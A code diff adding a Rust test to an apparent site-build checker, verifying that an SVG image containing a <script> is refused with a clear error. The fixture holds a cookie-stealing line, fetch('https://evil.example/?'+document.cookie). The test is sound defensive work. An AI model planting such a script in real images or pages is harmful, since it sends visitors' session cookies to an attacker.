@@ -455,6 +455,27 @@ fn image_without_alt_text() {
 }
 
 #[test]
+fn an_svg_picture_with_script_is_refused_and_dist_kept() {
+    // Opened on its own, an SVG runs its script: a published picture must be only a picture.
+    let run = broken_build_and_check(|p| {
+        p.write(
+            "images/wound.svg",
+            "<svg xmlns=\"http://www.w3.org/2000/svg\" viewBox=\"0 0 1 1\">\n  <rect width=\"1\" height=\"1\"/>\n  <script>fetch('https://evil.example/?'+document.cookie)</script>\n</svg>\n",
+        );
+        p.edit(
+            "leaflets/test-folder.yaml",
+            "  - text: intro\n",
+            "  - text: intro\n  - image: { file: images/wound.svg, alt: intro }\n",
+        );
+    });
+    run.assert_code(1)
+        .assert_stderr("error: picture images/wound.svg contains a <script> element, which is not allowed in a published picture")
+        .assert_stderr("images/wound.svg:3:3")
+        .assert_stderr("hint: export the picture again as plain SVG");
+    assert_run_snapshot!(run.stderr);
+}
+
+#[test]
 fn image_file_missing() {
     let run = checked(|p| {
         p.edit(
